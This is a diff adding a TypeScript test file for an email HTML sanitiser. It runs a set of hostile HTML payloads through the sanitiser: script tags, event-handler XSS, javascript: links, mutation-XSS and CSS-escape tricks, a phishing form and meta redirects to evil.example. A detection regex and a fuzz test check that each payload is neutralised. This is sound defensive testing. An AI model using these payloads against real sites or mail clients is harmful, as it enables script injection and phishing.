@@ -1,0 +1,120 @@
+import fc from 'fast-check'
+import { describe, expect, test } from 'vitest'
+import { htmlToText } from './html-text.ts'
+import { measureHtml, sanitiseMailHtml, withImages } from './html-policy.ts'
+
+const forbidden =
+  /<(?:script|form|input|button|svg|math|style|meta|base|iframe|object|embed|link)\b|\son\w+=|javascript:|data:(?!image\/png)|position\s*:|url\(|expression\(/i
+
+describe('hostile HTML', () => {
+  test.each([
+    ['phishing form', '<form action="https://evil.example"><input name=p><button>Sign in</button></form>'],
+    ['overlay', '<div style="position:fixed;top:0;left:0;z-index:9;background:url(https://evil.example/a)">x</div>'],
+    ['style element', '<style>@import "https://evil.example"; body{display:none}</style>text'],
+    [
+      'namespace confusion',
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    ],
+    ['svg', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><script>alert(1)</script></svg>'],
+    [
+      'svg foreign object',
+      '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
+    ],
+    [
+      'script link',
+      '<a href="java&#10;script:alert(1)">x</a><a href=" javascript:alert(1)">y</a><a href="data:text/html,x">z</a>',
+    ],
+    ['event', '<img src=x onerror=alert(1)><b onmouseover="alert(1)">x</b>'],
+    [
+      'meta and base',
+      '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
+    ],
+    [
+      'template and noscript',
+      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>x</script></template>',
+    ],
+    ['unclosed', '<div><script>alert(1)'],
+    ['textarea trick', '<textarea></title><img src=x onerror=alert(1)></textarea>'],
+    ['broken comment', '<!--><img src=x onerror=alert(1)>-->'],
+    ['css escape', '<p style="c\\6flor:red;background-image:u\\72l(x);color:expression(alert(1))">x</p>'],
+  ])('trust-D50 %s has no effect', (_name, html) => {
+    const safe = sanitiseMailHtml(html)
+    expect(safe).not.toMatch(forbidden)
+    expect(sanitiseMailHtml(safe)).not.toMatch(forbidden)
+  })
+  test('trust-D50 no image is loaded before a click, and cid pictures are put in as data', () => {
+    const safe = sanitiseMailHtml(
+      '<img src="https://track.example/p.gif" srcset="https://t.example 2x"><img src="cid:logo@x" alt="Logo"><img src="//x.example/y"><img src="data:image/svg+xml,x">',
+    )
+    expect(safe).not.toMatch(/\ssrc=|srcset/)
+    expect(safe).toContain('data-remote="https://track.example/p.gif"')
+    expect(withImages(safe, new Map([['logo@x', 'data:image/png;base64,aGk=']]))).toContain(
+      'src="data:image/png;base64,aGk="',
+    )
+    expect(withImages(safe, new Map([['logo@x', 'javascript:alert(1)']]))).not.toMatch(/\ssrc=/)
+  })
+  test('desk-D56 a link whose words do not tell its host shows it', () => {
+    expect(sanitiseMailHtml('<a href="https://evil.example/x">https://bank.example/login</a>')).toContain(
+      '[evil.example]',
+    )
+    expect(sanitiseMailHtml('<a href="https://bank.example/login">https://bank.example/login</a>')).not.toContain('[')
+    expect(sanitiseMailHtml('<a href="https://x.example">y</a>')).toContain('rel="noopener noreferrer nofollow"')
+  })
+})
+
+describe('limits', () => {
+  test.each([
+    ['too_large', 'a'.repeat(1_100_000)],
+    ['too_deep', '<div>'.repeat(10_000)],
+    ['too_many_nodes', '<b>a</b>'.repeat(11_000)],
+    ['too_many_links', '<a href=x>y</a>'.repeat(2_001)],
+  ])('desk-D56 %s is counted before anything is parsed', (limit, html) => {
+    expect(measureHtml(html)).toEqual({ ok: false, limit })
+  })
+  test('desk-D56 an ordinary long mail is within them', () => {
+    expect(measureHtml('<p>words &nbsp;&amp; more<br>x'.repeat(2_000) + '<li>y'.repeat(2_000))).toEqual({ ok: true })
+  })
+  test('trust-D50 80 kB of nested HTML takes no more than 100 ms', () => {
+    const html = '<div>'.repeat(8_000) + 'x' + '</i>'.repeat(8_000)
+    measureHtml(html)
+    const started = performance.now()
+    measureHtml(html)
+    expect(htmlToText(html)).toBe('x')
+    expect(performance.now() - started).toBeLessThan(100)
+  })
+})
+
+test('trust-D56 any HTML becomes text and safe HTML without a crash', () => {
+  const piece = fc.oneof(
+    fc.constantFrom(
+      '<p>',
+      '</p>',
+      '<a href="',
+      '"',
+      '>',
+      '<',
+      '<svg>',
+      '<style>',
+      '</style>',
+      '<blockquote>',
+      '&lt;',
+      '&#x0;',
+      '<!--',
+      '-->',
+      ' onerror=alert(1) ',
+      '<img src=x',
+      '<pre>\n',
+      '\u0000',
+      "'",
+    ),
+    fc.string({ maxLength: 8 }),
+  )
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
+      const html = pieces.join('')
+      expect(sanitiseMailHtml(html)).not.toMatch(/<(?:script|svg|style|form)\b|<[^>]*\son\w+=[^>]*>/i)
+      expect(htmlToText(html).includes('\0')).toBe(false)
+    }),
+    { numRuns: 1_000 },
+  )
+})
